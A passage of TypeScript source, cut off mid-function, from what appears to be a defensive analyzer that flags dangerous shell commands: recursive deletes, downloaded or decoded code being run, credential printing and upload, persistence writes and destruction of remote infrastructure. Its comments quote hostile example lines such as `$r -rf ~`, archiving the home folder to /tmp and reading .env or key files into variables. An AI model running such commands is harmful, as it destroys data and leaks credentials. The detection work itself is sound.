import { CodeNames, codeArgument, printedText, spellsHiddenText } from './code-strings.js';
import { decodedEncodedCommand, encodedCommandOption, isPowerShell, powerShellRun } from './powershell-encoded.js';
import type { Plant } from './planted-triggers.js';
import { extractsOverSystem } from './archive-extracts.js';
import { installsWithIdBits } from './file-modes.js';
import { printableBase64 } from '../values/text-blobs.js';
import { codeDeletesRoot, deletesRoot, findDeletesEverything, pipedDeleteRoot, rootForm } from './deletes.js';
import { givesValue, policyOverEveryPath, sshForward } from './access-openers.js';
import { codeServerOpened } from './code-servers.js';
import { executedNotebooks, jupyterModuleRun } from './notebook-runs.js';
import { inHubCache } from './hub-caches.js';
import { lookAlikeInstall } from './package-typos.js';
import { worldIngress } from './network-exposure.js';
import { protectionOff } from './protections-off.js';
import { plainVaultExport } from './vault-exports.js';
import { datasetPrograms, recordsFetched, recordsPublished } from './published-records.js';
import { optionArgument } from './option-arguments.js';
import { parseShell, shellQuoted, type SimpleCommand } from './shell-words.js';
import { assigns, expandsOperator, ShellVariables } from './shell-variables.js';
import { urlVariableLeak } from './url-variables.js';
import { lookups, sentSecret } from './sent-secrets.js';
import { socatSentFiles } from './socat-addresses.js';
import { destroysEveryListed } from './listed-destroys.js';
import { mayUndoEvery, undoesEveryListed } from './listed-refunds.js';
import { copiedOut, innerRun } from './inner-runs.js';
import { asksHiddenAnswer, forwardsEveryMessage, osascriptText, shellScriptLines } from './applescript-runs.js';
import { asWindowsRead, copiedToShare } from './windows-lines.js';
import { startUpJobLines } from '../paths/start-up-jobs.js';
import { localRemote, remoteUrl } from '../values/git-remotes.js';
import { urlHost } from '../values/url-hosts.js';
import { sessionStateFile } from '../paths/session-state-files.js';
import { historyFile, judgedByTextAlone } from '../paths/write-targets.js';
import { fetchedPackageRun } from './package-runs.js';
import { fetchesOfficialInstaller, officialInstallerUrl } from './official-installers.js';
import { secretFilesPacked } from './package-files.js';
import { secretOutputPublic, selectsNamesOnly, vaultFieldPublic } from './selected-fields.js';
import { type ConfigOperands, forgetLongName, type Invocation, type OptionSpec, type ProgramSpec, type ProgramTable, programName, programTable } from './programs.js';

// What a command line will do, read as argv against the programs table: code it runs that a reader of
// the line would not see (options and settings that execute, downloads or decoded text fed to a
// shell), files it writes, files it sends. Findings are data; nothing here throws on odd input.

/**
 * Whether `name args` uploads a package with an index's token (`twine upload`, `python -m twine upload`, `uv
 * publish`): a URL it is given is where the token goes. Twine's own variables (TWINE_PASSWORD) hold whatever
 * index the user set up, so only a token named for a service (PYPI_TOKEN) is read as belonging elsewhere.
 */
const uploadsPackage = (name: string, args: readonly string[]): boolean =>
  (name === 'twine' && args[0] === 'upload') || ((name === 'python' || name === 'python3') && args[0] === '-m' && args[1] === 'twine' && args[2] === 'upload') || (name === 'uv' && args[0] === 'publish');
const ownVariables = /\$\{?twine_|\$\{?uv_publish_/i;
/** An uploader's words as sentSecret reads them: `--repository-url=URL` as its URL, twine's own variables left out. */
const uploaderWords = (args: readonly string[]): string[] => args.filter((a) => !ownVariables.test(a)).map((a) => a.replace(/^--[\w-]+=/, ''));

export type CommandRule =
  | 'cmd/destructive-delete'
  | 'cmd/remote-destruction'
  | 'cmd/access-opened'
  | 'cmd/security-disabled'
  | 'cmd/credential-dump'
  | 'cmd/download-and-run'
  | 'cmd/official-installer-run'
  | 'cmd/decode-and-run'
  | 'cmd/hidden-execution'
  | 'cmd/credential-upload'
  | 'cmd/credential-search'
  | 'cmd/credential-print'
  | 'cmd/bulk-upload'
  | 'path/persistence-write';

export interface CommandFinding {
  readonly rule: CommandRule;
  readonly message: string;
  readonly evidence: string;
}

/** Path checks the analysis asks for; each returns what the path is (for the message) or undefined. */
export interface PathChecks {
  /** A place that runs code later (start-up files, hooks, autostart …). */
  writeTarget(path: string): string | undefined;
  /** A file that holds credentials. */
  credential(path: string): string | undefined;
  /**
   * For a write target judged by the text written there (a CI workflow, an editor file): the harm the text
   * plants, null for none, undefined when the place is judged. Absent: every write target is judged by place.
   */
  writtenText?(path: string, text: string, analyze: (line: string) => CommandFinding | undefined): { readonly what: string; readonly evidence: string } | null | undefined;
}

const messages: Readonly<Record<CommandRule, string>> = {
  'cmd/download-and-run': 'Command runs code it downloads',
  'cmd/official-installer-run': "Command pipes a vendor's official installer to a shell",
  'cmd/decode-and-run': 'Command decodes hidden text and runs it',
  'cmd/destructive-delete': 'Command deletes the filesystem root, a home or system folder recursively',
  'cmd/remote-destruction': 'Command destroys infrastructure, a cluster namespace, a bucket, a repository, a database or shared history in one step',
  'cmd/access-opened': 'Command opens access from outside: a port of this machine served to another host or the network, a resource made public, an owner or admin role granted',
  'cmd/security-disabled': 'Command switches a security control of the machine off',
  'cmd/credential-dump': "Command copies the machine's password store",
  'cmd/hidden-execution': 'An option or setting makes the program run another command',
  'cmd/credential-upload': 'Command sends credentials over the network',
  'cmd/credential-search': 'Command searches for credential files by name and acts on what it finds',
  'cmd/credential-print': 'Command prints a stored credential',
  'cmd/bulk-upload': 'Command sends files of the machine it does not name over the network',
  'path/persistence-write': 'Command writes a file that runs code later',
};

const maxDepth = 6;
/** Most hidden runner lines judged in code read only for what it hides (see analyzeHiddenRuns). */
const maxHiddenRuns = 8;
/** Stages that only filter a crontab's own listing (`crontab -l | grep -v old | crontab -`). */
const cronFilters = new Set(['crontab', 'grep', 'egrep', 'sed', 'sort', 'uniq', 'awk', 'cat', 'head', 'tail']);
/** A job that runs a script file (`sh ~/bin/x`, `/home/dev/bin/report.sh`), not a program by its name. */
const scriptJob = /^\s*(?:(?:sh|bash|zsh|dash|python[0-9.]*|node|perl|ruby)\s+)?(?:~|\.{0,2}\/|\$)[^\s;&|]*/;
/** A job that runs a program kept in a temporary folder anyone can write (how a planted agent is scheduled). */
const temporaryJob = /(?:^|[\s'"=])(?:\/tmp|\/var\/tmp|\/dev\/shm)\/\S/;
// Windows' temporary and public folders (with slashes: windows-lines.ts).
const windowsTemporary = /(?:%temp%|%tmp%|\$env:te?mp|\/users\/public|\/appdata\/local\/temp)\/\S/i;
/** Where a job's output goes (`>> /tmp/backup.log 2>&1`): a log written there runs nothing. */
const outputRedirect = /(?:\d|&)?>>?\|?\s*(?:"[^"]*"|'[^']*'|[^\s;&|<>()]+)/g;
const maxFindings = 16;
/** Programs that build container images from a context folder and push them. */
const containerBuilders = new Set(['docker', 'podman', 'buildah', 'nerdctl']);
/** Options of an image build that take no value. */
const imageBuildFlags = new Set(['--push', '--load', '--no-cache', '--pull', '-q', '--quiet', '--rm', '--force-rm', '--squash', '--compress', '--disable-content-trust']);
/** The key of `held` for the repository's next commit (a `$` name: no folder sent holds it). */
const gitIndex = '$GIT_INDEX';
/** A file as this text's records of written files key it: `./x` and `x` are one file. */
const fileKey = (path: string): string => (path.startsWith('./') ? path.slice(2) : path);

/**
 * What a shell line leaves for the session's later lines, which run in the same workspace: files it
 * downloaded, decoded, wrote secrets to or wrote a script to, and the git remotes it pointed.
 */
export interface LineCarry {
  readonly downloaded: readonly string[];
  readonly decoded: readonly string[];
  readonly held: readonly (readonly [string, { readonly rule: CommandRule; readonly what: string }])[];
  readonly scripts: readonly (readonly [string, string])[];
  readonly remotes: readonly (readonly [string, string])[];
  /** Harm a file write of the session tried to put in a file a program runs by itself, whatever its verdict (see planted-triggers.ts). */
  readonly planted?: readonly Plant[];
  /**
   * Aliases and shell functions the session's terminal defined: name → the text run where the name is a
   * command word, and whether the words after the name follow that text (an alias) or not (a function's
   * definition, read whole). A persistent terminal keeps them for the next call.
   */
  readonly defined?: readonly (readonly [string, string, boolean])[];
  /** Shell variables the session's lines assigned with known values (`export H=…`), seen by later lines. */
  readonly variables?: readonly (readonly [string, readonly string[]])[];
}

/** Whether `name args` installs a package from a file (dpkg -i, rpm -U, apt install ./x.deb, msiexec /i, installer -pkg). */
function installsPackageFile(name: string, args: readonly string[]): boolean {
  switch (name) {
    case 'dpkg':
      return args.some((a) => a === '--install' || /^-[a-zA-Z]*i/.test(a));
    case 'rpm':
      return args.some((a) => a === '--install' || a === '--upgrade' || /^-[a-zA-Z]*[iU]/.test(a));
    case 'apt':
    case 'apt-get':
    case 'yum':
    case 'dnf':
    case 'zypper':
      return args.some((a) => a === 'install' || a === 'localinstall' || a === 'reinstall');
    case 'installer':
      return args.includes('-pkg');
    case 'msiexec':
      return args.some((a) => /^[/-]i$|^[/-]package$/i.test(a));
    default:
      return false;
  }
}

/** The first operand after `invocation`'s words in `argv` (which it matches), or undefined. */
function operandAfter(invocation: Invocation, argv: readonly string[]): string | undefined {
  let w = 0;
  let i = 1;
  for (; i < argv.length && w < invocation.words.length; i++) if (argv[i]!.toLowerCase() === invocation.words[w]) w++;
  for (; i < argv.length; i++) if (!argv[i]!.startsWith('-')) return argv[i];
  return undefined;
}

/** The most text a file written in the line is kept with, to be read when the line runs it. */
const maxScript = 16 * 1024;
const clip = (s: string): string => (s.length > 120 ? `${s.slice(0, 117)}...` : s);
const firstWord = (s: string): string => programName(s.trim().split(/\s+/, 1)[0] ?? '');
const writeOps = new Set(['>', '>>', '&>', '&>>', '>|']);
/** Programs that print their arguments back. */
const echoes = new Set(['echo', 'printf', 'print']);
/** An option by which a program takes a login secret on stdin (`docker login --password-stdin`, `gh auth login --with-token`). */
const loginStdin = /^--?(?:password-stdin|with-token|token-stdin|stdin)$/i;

/** Whether `cmd` takes a login secret on its stdin. */
const takesLogin = (table: ProgramTable, cmd: SimpleCommand): boolean => unwrap(table, cmd.argv).some((a) => loginStdin.test(a));
/** Whether a stage is a JSON filter that keeps only the names of what it reads (`jq -r '.items[].metadata.name'`). */
const keepsNames = (table: ProgramTable, cmd: SimpleCommand): boolean => {
  const argv = unwrap(table, cmd.argv);
  return selectsNamesOnly(argv, programName(argv[0] ?? ''));
};

/** Whether `argv` runs its program in one of the ways a table of rules/programs.yaml lists for it. */
function invokedIn(table: ReadonlyMap<string, readonly Invocation[]>, argv: readonly string[]): boolean {
  return table.get(programName(argv[0] ?? ''))?.some((way) => invokes(way, argv)) ?? false;
}

/** Whether `argv` runs its program as `invocation` says (the program already matched). */
function invokes(invocation: Invocation, argv: readonly string[]): boolean {
  let w = 0;
  // With no words to find, the operands start after the program.
  let at = invocation.words.length === 0 ? 1 : argv.length;
  for (let i = 1; i < argv.length && w < invocation.words.length; i++) {
    if (argv[i]!.toLowerCase() === invocation.words[w]) {
      w++;
      at = i + 1;
    }
  }
  if (w < invocation.words.length) return false;
  if (invocation.key !== undefined || invocation.unless !== undefined) {
    let key: string | undefined;
    for (let i = at; i < argv.length && key === undefined; i++) if (!argv[i]!.startsWith('-')) key = argv[i];
    if (invocation.key !== undefined && (key === undefined || !invocation.key.test(key.toLowerCase()))) return false;
    if (invocation.unless !== undefined && key !== undefined && invocation.unless.test(key.toLowerCase())) return false;
  }
  const operand = invocation.operand;
  if (operand !== undefined && !argv.slice(at).some((a) => !a.startsWith('-') && operand.test(a.toLowerCase()))) return false;
  if (invocation.value !== undefined && !givesValue(invocation.value, argv)) return false;
  if (invocation.show === undefined) return true;
  const show = invocation.show;
  // A long option may carry its value after `=` (`--output=yaml`).
  return argv.some((a, i) => i > 0 && a.startsWith('-') && (show.has(a.toLowerCase()) || (a.startsWith('--') ? a.includes('=') && show.has(a.slice(0, a.indexOf('=')).toLowerCase()) : [...a.slice(1)].some((c) => show.has(`-${c}`)))));
}

/** Files a command receives from a search: the word that stands for each (find's `{}`, xargs -I's string), and why sending them matters. */
interface FoundFiles {
  readonly placeholder: string;
  /** Set when the search covers the machine or looks for key material; undefined for a search of the project. */
  readonly why: string | undefined;
}

const unquote = (word: string): string => word.replace(/^["']|["']$/g, '');
/** A word that is one shell variable (`$f`, `${file}`): what it names is known only when the line runs. */
const variable = /^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$/;
const homeWord = /^(?:\$\{?home\}?|%userprofile%)(?=\/|$)/;

// An infrastructure tool's destroy acts on the stack of its folder (`cd infra/envs/X`, `-chdir=X`) or the
// stack it names (`pulumi destroy -s X`): one named for a pull request's preview or a sandbox is made to be
// torn down (a review app's clean-up step), and a dev stack qualified by a name of its own (`envs/dev-dana`,
// `dana-dev`, `dev-search-spike`) is one developer's copy, which they destroy when done: either is no loss for
// everyone. `dev` alone, or qualified only by a stage, a team word or a region, is the shared one; a name
// that also says prod, live or shared (a stem anywhere in it) is read as the kept one it may be.
const stackTools = /^(?:terraform|tofu|terragrunt|pulumi)$/;
/** What a word of a stack's or namespace's name says: made to be torn down, or shared by a team. */
const nameWords: ReadonlyMap<string, 'throwaway' | 'shared'> = new Map([
  ...['preview', 'review', 'pr', 'mr', 'ephemeral', 'sandbox', 'scratch', 'tmp', 'temp', 'e2e'].map((w) => [w, 'throwaway'] as const),
  ...['dev', 'stage', 'staging', 'qa', 'uat', 'test', 'team', 'common', 'core', 'base', 'infra', 'network', 'data', 'east', 'west', 'north', 'south', 'central', 'us', 'eu', 'ap', 'sa', 'ca', 'me', 'af'].map((w) => [w, 'shared'] as const),
]);
const keptName = /prod|live|shared|global|main|master|release/;
/** What a stack's or namespace's name (lower case) says of it, read once: kept, throwaway, one developer's, or nothing. */
function nameSays(name: string): 'kept' | 'throwaway' | 'personal' | undefined {
  if (name === '') return undefined;
  if (keptName.test(name)) return 'kept';
  const words = name.split(/[-_.]/);
  if (words.some((w) => nameWords.get(w) === 'throwaway')) return 'throwaway';
  if (words.includes('dev') && words.length >= 2 && words.some((w) => /^[a-z]{3,}$/.test(w) && !nameWords.has(w))) return 'personal';
  return undefined;
}

// A cluster's namespace named for a pull request's preview or a sandbox (`kubectl delete namespace
// preview-pr-1423`) is the review app's clean-up step, as a throwaway stack's destroy is. Every namespace the
// line names must be one; a selector, --all or a system namespace (kube-*, default) is not.
const namespaceWord = /^(?:ns|namespaces?)$/;
const namespaceSlash = /^(?:ns|namespaces?)\/(.+)$/;
const manyObjects = /^(?:--all|-A|--all-namespaces|-l|--selector|--field-selector|-f|--filename|-k|--kustomize|-R|--recursive)(?:=|$)/;
const systemNamespace = /^(?:kube-|openshift|default$)/;
function throwawayNamespaces(argv: readonly string[]): boolean {
  const program = programName(argv[0] ?? '');
  if (program !== 'kubectl' && program !== 'oc') return false;
  const at = argv.indexOf('delete');
  if (at < 0) return false;
  const names: string[] = [];
  let kind = false;
  for (let i = at + 1; i < argv.length; i++) {
    const a = unquote(argv[i]!);
    if (manyObjects.test(a)) return false;
    if (a.startsWith('-')) continue;
    const slashed = namespaceSlash.exec(a.toLowerCase());
    if (slashed !== null) names.push(slashed[1]!);
    else if (!kind && names.length === 0 && namespaceWord.test(a.toLowerCase())) kind = true;
    else if (kind) names.push(a.toLowerCase());
    else return false;
  }
  return names.length > 0 && names.every((n) => nameSays(n) === 'throwaway' && !systemNamespace.test(n));
}
// A recursive removal under a prefix of a bucket (`aws s3 rm s3://b/tmp/build-1/ --recursive`, `gsutil rm -r
// gs://b/scratch/x`) empties that folder, not the bucket: a prefix named temporary (tmp, scratch, preview …) is a
// build's or a job's own leftovers. The bucket whole, or any bucket or prefix named as kept (prod, backups of
// main …), stays a destruction.
const storageObject = /^(?:s3|gs):\/\/([^/]+)\/(.+)$/;
function throwawayPrefix(argv: readonly string[]): boolean {
  const program = programName(argv[0] ?? '');
  if (program !== 'aws' && program !== 'gsutil' && program !== 'gcloud') return false;
  let urls = 0;
  for (let i = 1; i < argv.length; i++) {
    const a = unquote(argv[i]!).toLowerCase();
    if (!a.startsWith('s3://') && !a.startsWith('gs://')) continue;
    urls++;
    const m = storageObject.exec(a);
    if (m === null || keptName.test(m[1]!) || keptName.test(m[2]!)) return false;
    if (!m[2]!.split('/').some((segment) => nameSays(segment) === 'throwaway')) return false;
  }
  return urls > 0;
}
function throwawayStack(argv: readonly string[], cwd: string | undefined): boolean {
  if (!stackTools.test(programName(argv[0] ?? ''))) return false;
  let named: string | undefined;
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i]!;
    if (a.startsWith('-chdir=')) named = a.slice(7);
    else if ((a === '-s' || a === '--stack') && argv[i + 1] !== undefined) named = argv[i + 1];
    else if (a.startsWith('--stack=')) named = a.slice(8);
  }
  const where = unquote(named ?? cwd ?? '').toLowerCase().replace(/\\/g, '/').replace(/\/+$/, '');
  const last = where.slice(where.lastIndexOf('/') + 1);
  const says = nameSays(last);
  return (says === 'throwaway' || says === 'personal') && !keptName.test(where);
}

class Analysis {
  readonly table: ProgramTable;
  readonly checks: PathChecks;
  readonly findings = new Map<string, CommandFinding>();
  /** Files a fetcher saved in this text, which a later command may run. */
  readonly downloaded = new Set<string>();
  /** The folder a `cd` earlier in this text moved to (undefined: where the line starts, the project). */
  cwd: string | undefined;
  /** Files this text wrote with text it shows (`echo 'gh auth token' > t.sh`): path → what they hold. */
  readonly scripts = new Map<string, string>();
  readonly scriptsRead = new Set<string>();
  /** Files a decoder's output was written to in this text (`base64 -d > x`), which a later command may run. */
  readonly decoded = new Set<string>();
  /** What the command being read receives from a search (inside find -exec, after … | xargs -I). */
  found: FoundFiles | undefined;
  /** Set while the command being read has secrets on its stdin: the process environment (env | …) or an archive of the machine (tar c ~ | …). */
  stdinHolds: { readonly rule: CommandRule; readonly stage: string; readonly what: string } | undefined;
  /**
   * Files this text wrote secrets to, which sending later leaks: archives packed from the machine or from
   * credential files (tar czf /tmp/a.tgz ~), and files the process environment was written to (env > /tmp/e).
   */
  readonly held = new Map<string, { readonly rule: CommandRule; readonly what: string }>();
  /** Why the files of this text's own search are worth stealing, when it searches (a loop sends `$f` of find's output). */
  searched: string | undefined;
  /** Names the text assigns literally (`r=rm`, `set -- …`, `a=(…)`), put back where it uses them; made at the first assignment. */
  variables: ShellVariables | undefined;
  /** The commands of the text read first, as the shell runs them (for readers of their own, see analyzeShellCommands). */
  commands: readonly SimpleCommand[] | undefined;
  /** Git remotes this text (or an earlier line of the session) pointed at a URL (`git remote add|set-url NAME URL`): name → URL. */
  remotes: Map<string, string> | undefined;
  /** Names this text set to what a CLI prints as its credential (`T=$(gcloud auth print-access-token)`): lower-cased name → the CLI. */
  credentialNames: Map<string, string> | undefined;
  /** Names this text set to a whole secret file a reader prints (`S=$(cat .env)`, `K=$(base64 -w0 key.pem)`): name → what it holds. */
  heldNames: Map<string, NonNullable<Analysis['stdinHolds']>> | undefined;
  /** Aliases and functions this text (or an earlier line of the session) defined: name → [text run for it, whether its words follow]. */
  readonly defined = new Map<string, readonly [string, boolean]>();
  readonly definedRead = new Set<string>();
  /** Folders this text fetched people's records into (`wandb artifact get … --root DIR`): folder → the records' name. */
  recordFolders: Map<string, string> | undefined;
  /** Fetchers of this text that fetch anything but one official installer URL (official-installers.ts). */
  otherFetches = 0;

  constructor(checks: PathChecks, carried?: LineCarry) {
    this.table = programTable();
    this.checks = checks;
    if (carried !== undefined) {
      for (const f of carried.downloaded) this.downloaded.add(f);
      for (const f of carried.decoded) this.decoded.add(f);
      for (const [f, held] of carried.held) this.held.set(f, held);
      for (const [f, text] of carried.scripts) this.scripts.set(f, text);
      for (const [name, url] of carried.remotes) (this.remotes ??= new Map()).set(name, url);
      for (const [name, text, follows] of carried.defined ?? []) this.defined.set(name, [text, follows]);
      if (carried.variables !== undefined && carried.variables.length > 0) {
        this.variables = new ShellVariables();
        for (const [name, words] of carried.variables) this.variables.seed(name, words);
      }
    }
  }

  /** What this text leaves for a later line of the same session (undefined: nothing). */
  carry(): LineCarry | undefined {
    const variables = this.variables?.known() ?? [];
    if (this.downloaded.size + this.decoded.size + this.held.size + this.scripts.size + this.defined.size + variables.length === 0 && this.remotes === undefined) return undefined;
    return {
      downloaded: [...this.downloaded], decoded: [...this.decoded], held: [...this.held], scripts: [...this.scripts], remotes: [...(this.remotes ?? [])],
      ...(this.defined.size > 0 ? { defined: [...this.defined].map(([name, [text, follows]]) => [name, text, follows] as const) } : {}),
      ...(variables.length > 0 ? { variables } : {}),
    };
  }

  add(rule: CommandRule, evidence: string, detail?: string): void {
    if (this.findings.size >= maxFindings) return;
    const key = `${rule}\u0000${evidence}`;
    if (!this.findings.has(key)) this.findings.set(key, { rule, message: detail ? `${messages[rule]}: ${detail}` : messages[rule], evidence: clip(evidence) });
  }

  text(script: string, depth: number): void {
    if (depth > maxDepth) return;
    // Every reading below sees the words the shell would run: `r=rm; $r -rf ~` is rm's.
    // A cmd.exe or PowerShell line's backslashes separate folders (windows-lines.ts).
    const parsed = parseShell(asWindowsRead(script));
    // `${X:-rm}` reads as its default though the line assigns nothing: looked for only when the text has a `${`.
    const plain = this.variables === undefined && !parsed.some(assigns) && !(script.includes('${') && parsed.some(expandsOperator));
    const commands = plain ? parsed : (this.variables ??= new ShellVariables()).expand(parsed);
    if (depth === 0) this.commands ??= commands;
    // A shell function runs its body where its name is used: a later line of the session that uses it reads this text.
    if (script.length <= maxScript) {
      for (const cmd of commands) {
        const head = cmd.argv[0] === 'function' ? cmd.argv[1] : cmd.argv[0];
        const name = head === undefined ? undefined : /^([A-Za-z_][\w.:-]*)(?:\(\))?\{?$/.exec(head)?.[1];
        if (name !== undefined && (cmd.argv[0] === 'function' || head!.includes('()'))) {
          this.defined.set(name, [script, false]);
          // (Its body is read here, as the text's own commands.)
          this.definedRead.add(name);
        }
      }
    }
    // A loop over a search's output (`for f in $(find …)`, `find … | while read f`) sends `$f`: whichever
    // stage searches, its files are what a variable names later in the text.
    if (this.searched === undefined) {
      for (const cmd of commands) {
        for (const stage of [cmd, ...cmd.upstream, ...cmd.substitutions]) {
          const argv = unwrap(this.table, stage.argv);
          const name = programName(argv[0] ?? '');
          if (this.table.searchers.has(name)) this.searched ??= this.searchReason(name, argv.slice(1));
        }
      }
    }
    // A loop refunding or voiding every payment its own listing prints (listed-refunds.ts).
    const undone = mayUndoEvery(script) ? undoesEveryListed(commands, (argv) => unwrap(this.table, argv)) : undefined;
    if (undone !== undefined) this.add('cmd/remote-destruction', undone, 'it refunds or voids every payment its own listing prints');
    for (const cmd of commands) {
      if (cmd.substitutions.length > 0) this.credentialAssigned(cmd);
      this.command(cmd, cmd.argv, depth);
    }
    this.credentialOutput(commands);
  }

  /**
   * A name set to a credential a CLI prints (`T=$(gh auth token)`, `export T=$(…)`): where `$T` goes later in the
   * text, the credential goes (sentSecret), as if the substitution stood there.
   */
  credentialAssigned(cmd: SimpleCommand): void {
    const defines = cmd.argv.length === 0 ? cmd.env : definers.has(cmd.argv[0] ?? '') ? cmd.argv.slice(1).filter((a) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(a)).map((a) => [a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1)] as const) : [];
    for (const [name, value] of defines) {
      if (!/^(?:\$\(|`)/.test(value)) continue;
      // One reader of a whole file (`S=$(cat .env)`): `$S` later holds the file, as `$(cat .env)` there would.
      const only = cmd.substitutions.length === 1 && cmd.substitutions[0]!.upstream.length === 0 ? unwrap(this.table, cmd.substitutions[0]!.argv) : undefined;
      const held = only !== undefined && wholeFileReaders.has(programName(only[0] ?? '')) ? this.secretStdout(only) : undefined;
      if (held !== undefined) (this.heldNames ??= new Map()).set(name, held);
      for (const sub of cmd.substitutions) {
        if (this.printsCredential(unwrap(this.table, sub.argv)) === undefined) continue;
        (this.credentialNames ??= new Map()).set(name.toLowerCase(), programName(unwrap(this.table, sub.argv)[0] ?? ''));
        break;
      }
    }
  }

  /**
   * Where the output of each command that prints a stored credential goes. The last stage of a pipeline
   * is read by whoever ran the line (the model); an earlier stage's output goes to the next stage, which
   * keeps it only when it takes a login secret on stdin (`--password-stdin`, `--with-token`). A credential
   * substituted into another command (`export T=$(gh auth token)`) goes to that command, unless that
   * command only echoes it back. (parseShell lists every stage and every substituted command on its own.)
   */
  credentialOutput(commands: readonly SimpleCommand[]): void {
    let next: Map<SimpleCommand, SimpleCommand> | undefined;
    let holder: Map<SimpleCommand, SimpleCommand> | undefined;
    for (const cmd of commands) {
      const printed = this.printsCredential(unwrap(this.table, cmd.argv));
      if (printed === undefined) continue;
      if (next === undefined || holder === undefined) {
        next = new Map();
        holder = new Map();
        for (const c of commands) {
          if (c.upstream.length > 0) next.set(c.upstream[c.upstream.length - 1]!, c);
          for (const sub of c.substitutions) holder.set(sub, c);
        }
      }
      const into = holder.get(cmd);
      const reader = next.get(cmd);
      if (into !== undefined) {
        const name = programName(unwrap(this.table, into.argv)[0] ?? '');
        if (echoes.has(name) && (reader === undefined || !takesLogin(this.table, reader))) this.add('cmd/credential-print', `${name} "$(${printed})"`);
      } else if (reader === undefined) this.add('cmd/credential-print', printed);
      else if (!takesLogin(this.table, reader) && !keepsNames(this.table, reader)) this.add('cmd/credential-print', `${printed} | ${programName(reader.argv[0] ?? '')}`);
    }
  }

  /** The command written out when `argv` (wrappers read) prints a stored credential, else undefined. */
  printsCredential(argv: readonly string[]): string | undefined {
    const name = programName(argv[0] ?? '');
    if (name === '') return undefined;
    let printers = this.table.credentialPrinters.get(name);
    // A family named by its prefix (`docker-credential-*`).
    for (let dash = name.indexOf('-'); printers === undefined && dash > 0; dash = name.indexOf('-', dash + 1)) printers = this.table.credentialPrinters.get(`${name.slice(0, dash + 1)}*`);
    if (printers === undefined) return undefined;
    // A secret's names or its TLS certificate alone (`-o jsonpath='{.data.tls\.crt}'`) hold no secret value.
    for (const printer of printers) if (invokes(printer, argv)) return (name === 'kubectl' && secretOutputPublic(argv)) || (name === 'vault' && vaultFieldPublic(argv)) ? undefined : clip(argv.join(' '));
    return undefined;
  }

  /** The command written out when `argv` (wrappers read) destroys what lives outside the machine, else undefined. */
  destroysRemote(argv: readonly string[]): string | undefined {
    if (!invokedIn(this.table.remoteDestroyers, argv)) return undefined;
    return throwawayStack(argv, this.cwd) || throwawayNamespaces(argv) || throwawayPrefix(argv) ? undefined : clip(argv.join(' '));
  }

  /** Whether `path` is a root of the machine (`/`, `~`, `$HOME`, `/etc`, `/home/u`) rather than a project's file. */
  wide(path: string): boolean {
    return this.table.wideRoot.test(unquote(path).toLowerCase().replace(/\\/g, '/').replace(homeWord, '~'));
  }

  /**
   * A write to `path`; `text`, when the command line itself holds what is written (a here-document);
   * `echoed`, a line `echo` writes (see echoedText), read only for a shell start-up file, whose reader takes
   * settings one line at a time (a dotfile line appended is the common setup step); `printed`, the whole text
   * `printf` or `echo` writes with `>` (escapes decoded), read by any place judged by its text (a git hook, a
   * systemd unit): the file holds that text and nothing else, as a here-document written with `cat >` does.
   */
  write(path: string, how: string, heredoc?: string, echoed?: string, printed?: string): void {
    const what = this.checks.writeTarget(path);
    if (!what) return;
    // An agent's settings or instructions do nothing by themselves: judged by the text written (echoed too), or not at all.
    const alone = judgedByTextAlone(what);
    const text = heredoc ?? (what === startUpFile || alone ? echoed : undefined) ?? (how === '>' ? printed : undefined);
    if (text === undefined && alone) return;
    const harm = text === undefined ? undefined : this.checks.writtenText?.(path, text, (line) => analyzeShell(line, this.checks)[0]);
    if (harm === null) {
      // Text that harms nothing by its commands may still have the place run a program dropped in a temporary
      // folder (`ExecStart=/tmp/x`), as a crontab job may (see cron below): no project keeps its tools there.
      const plain = text!.replace(outputRedirect, ' ');
      if (temporaryJob.test(plain) || windowsTemporary.test(plain)) this.add('path/persistence-write', `${how} ${path}`, `${what} that runs a program from a temporary folder`);
      return;
    }
    this.add('path/persistence-write', `${how} ${path}`, harm === undefined ? what : `${what} that ${harm.what}`);
  }

  upload(path: string, how: string): void {
    // A shell history sent is the commands typed, with the secrets typed in them (reading one is judged by its own path rule).
    // A test's saved browser session copied by a login to a machine (scp, rsync) goes to the user's own CI or staging box.
    const what = this.checks.credential(path) ?? historyFile(path) ?? (loginCopiers.has(how) ? undefined : sessionStateFile(path));
    if (what) this.add('cmd/credential-upload', `${how} ${path}`, what);
    else if (path === '-' && this.stdinHolds !== undefined) this.add(this.stdinHolds.rule, `${this.stdinHolds.stage} | ${how} -`, this.stdinHolds.what);
    else if (this.found?.why !== undefined && path.includes(this.found.placeholder)) this.add('cmd/bulk-upload', `${how} ${path}`, this.found.why);
    else if (this.uploadHeld(path, how)) {
      // (The file or folder holds what the session put in it: that is the finding.)
    } else if (this.wide(path)) this.add('cmd/bulk-upload', `${how} ${path}`, `${path} is a root of the machine`);
    else if (this.searched !== undefined && variable.test(path)) this.add('cmd/bulk-upload', `${how} ${path}`, `${path} names what the search finds: ${this.searched}`);
  }

  /** A send of `path` when it is, or is a folder holding, a file the text or the session put a secret in: whether it was. */
  uploadHeld(path: string, how: string): boolean {
    const held = this.held.get(fileKey(path));
    if (held !== undefined) {
      this.add(held.rule, `${how} ${path}`, held.what);
      return true;
    }
    const inside = this.heldInside(path);
    if (inside === undefined) return false;
    this.add(inside[1].rule, `${how} ${path}`, `${inside[1].what} (${inside[0]} is inside ${path})`);
    return true;
  }

  /**
   * A file the text or the session holds a secret in that lies inside the folder `path` (a copy of a credential
   * into `site/assets/` sent by a sync of `site`): a folder sent sends what is in it. `.` holds every relative file.
   */
  heldInside(path: string): readonly [string, { readonly rule: CommandRule; readonly what: string }] | undefined {
    if (this.held.size === 0) return undefined;
    let folder = fileKey(unquote(path));
    while (folder.length > 1 && folder.endsWith('/')) folder = folder.slice(0, -1);
    const here = folder === '.' || folder === '';
    for (const entry of this.held) {
      const file = entry[0];
      if (here ? !/^[/~$]/.test(file) : file.startsWith(`${folder}/`)) return entry;
    }
    return undefined;
  }

  /**
   * What an archiver's argv packs when it packs a root of the machine or a credential file, with the archive
   * it writes (`-` for stdout); undefined otherwise. Every operand that is not the archive is a source.
   */
  archive(name: string, args: readonly string[]): { readonly archive: string; readonly what: string } | undefined {
    let archive = '-';
    const sources: string[] = [];
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      // tar's archive follows f (-f X, -czf X, old-style czf X, --file=X); zip's, 7z's and rar's is the first operand.
